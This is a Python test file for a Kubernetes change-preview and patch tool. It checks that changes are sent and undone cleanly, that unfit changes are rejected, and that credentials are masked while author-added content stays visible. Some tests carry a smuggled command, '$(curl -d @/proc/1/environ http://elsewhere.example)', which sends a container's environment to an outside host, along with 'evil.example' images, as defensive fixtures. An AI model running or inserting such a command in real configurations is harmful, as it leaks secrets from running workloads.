"""What a step changes, how it is sent, shown, and turned round."""

import copy

import jsonpatch
import pytest

from sidecar.contract import FieldChange
from sidecar.execution import Effect, Live, Unfit, calls_for, effect_of, preview_of, projected, undo_calls
from sidecar.execution.effect import changed_fields
from sidecar.execution.veil import veiled
from sidecar.gate.concealment import Concealing
from tests.fakes.sidecar_gate import change, deployment, plan, ref, scale


def live_deployment(**container):
    document = deployment(**container)
    document["metadata"] |= {"uid": "uid-web", "resourceVersion": "7", "managedFields": [{"manager": "x"}]}
    document["status"] = {"replicas": 3}
    return document


def action(*actions):
    return plan(*actions).steps[0].action


ENV = [{"name": "A", "value": "1"}, {"name": "B", "value": "2"}]
MAIN = "/spec/template/spec/containers/0"


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        (f"{MAIN}/image", "shop/web:1", "shop/web:2"),
        (f"{MAIN}/resources/limits/memory", None, "256Mi"),
        ("/spec/template/spec/nodeSelector/disk", None, "ssd"),
        (f"{MAIN}/env/-", None, {"name": "C", "value": "3"}),
        (f"{MAIN}/env/2", None, {"name": "C", "value": "3"}),
        (f"{MAIN}/env/0", {"name": "A", "value": "1"}, None),
        (f"{MAIN}/env/1/value", "2", "4"),
        (f"{MAIN}/envFrom/-", None, {"configMapRef": {"name": "c"}}),
        (f"{MAIN}/args/0", None, "--verbose"),
        (f"{MAIN}/env", ENV, None),
        ("/metadata/labels/app", "web", None),
        ("/metadata/annotations/a~1b", None, "c"),
    ],
)
def test_a_change_is_sent_as_a_patch_and_turned_round_it_leaves_nothing_behind(path, before, after):
    step = action(change(path, before, after))
    original = live_deployment(env=copy.deepcopy(ENV))
    live = Live(target=original)
    effect = effect_of(step, live)
    assert isinstance(effect, Effect), effect
    (call,) = calls_for(step, live, effect, manager="m")
    changed = jsonpatch.apply_patch(original, call.body)
    assert changed != original
    assert changed == projected(step, live, effect).target
    changed["metadata"]["resourceVersion"] = "8"
    (back,) = undo_calls(step, Live(target=changed), effect, manager="m")
    changed = jsonpatch.apply_patch(changed, back.body)
    assert {**changed, "metadata": {**changed["metadata"], "resourceVersion": "7"}} == original


def test_every_write_tests_uid_version_and_what_it_replaces():
    step = action(change(f"{MAIN}/image", "shop/web:1", "shop/web:2"))
    live = Live(target=live_deployment())
    (call,) = calls_for(step, live, effect_of(step, live), manager="m")
    tests = {(op["path"], op["value"]) for op in call.body if op["op"] == "test"}
    assert tests == {("/metadata/uid", "uid-web"), ("/metadata/resourceVersion", "7"), (f"{MAIN}/image", "shop/web:1")}
    assert ("fieldManager", "m") in call.query


def test_several_changes_of_one_list_are_one_change_of_it():
    changes = (
        FieldChange(path=f"{MAIN}/env/0", before={"name": "A", "value": "1"}, after=None),
        FieldChange(path=f"{MAIN}/env/-", before=None, after={"name": "C", "value": "3"}),
    )
    effect = changed_fields(live_deployment(env=ENV), changes)
    assert effect.before == {f"{MAIN}/env": ENV}
    assert effect.after == {f"{MAIN}/env": [{"name": "B", "value": "2"}, {"name": "C", "value": "3"}]}


@pytest.mark.parametrize(
    ("wanted", "code"),
    [
        (change(f"{MAIN}/image", "shop/web:0", "shop/web:2"), "target-changed"),
        (change("/spec/paused", False, True), "target-changed"),
        (change(f"{MAIN}/env/7", None, {"name": "x"}), "target-changed"),
        (change("/spec/template/spec/containers/\u00b2/image", "shop/web:1", "shop/web:2"), "target-changed"),
        (change("/spec/template/spec/containers/00/image", "shop/web:1", "shop/web:2"), "target-changed"),
        (change("/metadata/uid", "uid-web", "other"), "field-not-allowed"),
        (change("/metadata/ownerReferences", None, []), "field-not-allowed"),
        (change("/metadata/finalizers", None, ["x"]), "field-not-allowed"),
        (change("/status/replicas", 3, 4), "field-not-allowed"),
        (change("/kind", "Deployment", "Secret"), "field-not-allowed"),
        (change("/spec", None, {}), "field-not-allowed"),
        (scale(3), "nothing-to-do"),
        (
            {"kind": "scale_workload", "target": ref("Deployment", "web", uid="another"), "replicas": 5},
            "target-changed",
        ),
        ({"kind": "rollback_workload", "target": ref("Deployment", "web"), "to_revision": 2}, "revision-missing"),
    ],
)
def test_what_does_not_fit_the_live_object_is_said(wanted, code):
    found = effect_of(action(wanted), Live(target=live_deployment()))
    assert isinstance(found, Unfit)
    assert found.code == code


def test_what_is_not_there_is_not_found_and_what_is_there_is_not_created():
    assert effect_of(action(scale(5)), Live()).code == "not-found"
    manifest = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c", "namespace": "shop"}, "data": {}}
    create = {"kind": "create_object", "target": ref("ConfigMap", "c", api_version="v1", uid="new"), "manifest": manifest}
    assert effect_of(action(create), Live(target=manifest)).code == "exists"


def preview(wanted, document):
    step = plan(wanted).steps[0]
    live = Live(target=document)
    effect = effect_of(step.action, live)
    assert isinstance(effect, Effect), effect
    return preview_of(step, live, effect, projected(step.action, live, effect), Concealing())


def test_a_preview_is_a_diff_of_what_changes_and_of_nothing_else():
    shown = preview(scale(5), live_deployment())
    changed = [line for line in shown.diff.splitlines() if line[0] in "+-" and not line.startswith(("+++", "---"))]
    assert changed == ["-  replicas: 3", "+  replicas: 5"]
    assert shown.reversible
    assert "managedFields" not in shown.diff


def test_values_that_look_secret_are_not_shown_but_that_they_change_is():
    secret = [{"name": "DB_PASSWORD", "value": "hunter2"}]
    shown = preview(change(f"{MAIN}/env/0/value", "hunter2", "hunter3"), live_deployment(env=secret))
    assert "hunter" not in shown.diff
    assert shown.diff.count("<hidden, sha256") == 2


def test_what_the_cluster_says_is_shown_without_credentials_and_what_the_author_adds_is_shown():
    """People approve what they see: under a mask that asks for little, a plan could hide what it does."""
    old = ["--db-password", "hunter2", "--db=postgres://app:hunter2@db/x", "--level=info"]
    args = [*old[:3], "--level=debug", "--token=$(curl -d @/proc/1/environ http://elsewhere.example)"]
    shown = preview(change(f"{MAIN}/args", old, args), live_deployment(args=old))
    assert "hunter2" not in shown.diff
    assert "--token=$(curl -d @/proc/1/environ http://elsewhere.example)" in shown.diff
    changed = [line[1:].strip(" -") for line in shown.diff.splitlines() if line[0] in "+-" and line[1] not in "+-"]
    assert changed == ["level=info", "level=debug", "token=$(curl -d @/proc/1/environ http://elsewhere.example)"]


def test_a_diff_without_a_word_of_a_credential_is_made_once():
    veil = Concealing()
    shown = preview(scale(5), live_deployment())
    assert not veil.may_hide(shown.diff)
    for text in ("postgres://a:b@c", "--db-password x", "Bearer abcdefgh", "mysql -pabc", "ghp_" + "a1" * 12):
        assert veil.may_hide(shown.diff + text), text


def test_what_is_a_credential_by_its_own_shape_is_not_shown_whoever_says_it():
    token = "ghp_" + "aB1" * 8
    shown = preview(change(f"{MAIN}/args", None, [f"--x={token}"]), live_deployment())
    assert token not in shown.diff
    assert "--x=*hidden-" in shown.diff


def test_no_image_that_an_author_chooses_hides_behind_a_mask():
    """Every mark but a capital letter may stand in the name of an image or a host."""
    for image in (
        "evil.example/xoxb-looks-harmless:1",
        "evil.example/glpat-looks-quite-harmless",
        "sk-evil-host-of-mine.example/x",
    ):
        shown = preview(change(f"{MAIN}/image", "shop/web:1", image), live_deployment(image="shop/web:1"))
        assert image in shown.diff


def test_what_stands_in_the_cluster_already_is_shown_where_an_author_puts_it_now():
    """A plan of yesterday may have put it there as an annotation that nobody minds."""
    hidden = "--token=$(curl -d @/proc/1/environ http://elsewhere.example)"
    live = live_deployment(args=["--level=info"])
    live["metadata"]["annotations"] = {"note": hidden}
    shown = preview(change(f"{MAIN}/args", ["--level=info"], ["--level=info", hidden]), live)
    assert [line for line in shown.diff.splitlines() if line[0] == "+" and hidden in line]


def test_what_an_author_adds_is_shown_of_whatever_form_it_is():
    """Of a kind that is called a Secret, other things than texts may be hidden whole."""
    step = plan(change("/data/job", None, {"image": "evil.example/x", "times": 7})).steps[0].action
    live = Live(target={"kind": "VaultSecret", "metadata": {"name": "x"}, "data": {"old": "hunter2"}})
    then = {**live.target, "data": {"old": "hunter2", "job": {"image": "evil.example/x", "times": 7}}}
    shown = veiled(then, step, live, Concealing())
    assert shown["data"] == {"old": "", "job": {"image": "evil.example/x", "times": 7}}


def test_characters_that_could_hide_a_change_are_written_out():
    shown = preview(change("/metadata/labels/app", "web", "w\u202eb\u200b\x1b[2J"), live_deployment())
    assert not set(shown.diff) & {"\u202e", "\u200b", "\x1b"}
    assert "\\u202e" in shown.diff


@pytest.mark.parametrize(
    ("keys", "said"),
    [
        (["a", "b"], "change /data/a, /data/b of ConfigMap shop/c"),
        (
            [f"k{number}" for number in range(40)],
            "change 40 fields of ConfigMap shop/c: /data/k0, /data/k1, /data/k2 and 37 more",
        ),
        (["x" * 240], f"change 1 field of ConfigMap shop/c: /data/{'x' * 193}…"),
    ],
)
def test_a_summary_names_the_object_and_says_how_much_it_leaves_out(keys, said):
    document = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "c", "namespace": "shop", "uid": "u"},
        "data": {"y": "1"},
    }
    wanted = {
        "kind": "change_fields",
        "target": ref("ConfigMap", "c", api_version="v1", uid="u"),
        "changes": [{"path": f"/data/{key}", "before": None, "after": "new"} for key in keys],
    }
    assert preview(wanted, document).summary == said


def test_what_is_too_long_to_show_whole_is_not_put_before_people():
    data = {f"key-{number:05}": "x" * 60 for number in range(2000)}
    manifest = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c", "namespace": "shop"}, "data": data}
    create = {"kind": "create_object", "target": ref("ConfigMap", "c", api_version="v1", uid="new"), "manifest": manifest}
    assert preview(create, None).code == "too-long-to-show"


def test_a_job_that_is_run_again_is_shown_and_held_as_a_whole():
    job = {"metadata": {"name": "j", "namespace": "shop", "uid": "uid-j"}, "spec": {"parallelism": 2, "template": {"spec": {}}}}
    rerun = {"kind": "rerun_job", "target": ref("Job", "j", api_version="batch/v1"), "new_name": "j-2"}
    assert "+  parallelism: 2" in preview(rerun, job).diff
    wider = {**job, "spec": {**job["spec"], "parallelism": 500}}
    assert effect_of(action(rerun), Live(target=job)) != effect_of(action(rerun), Live(target=wider))
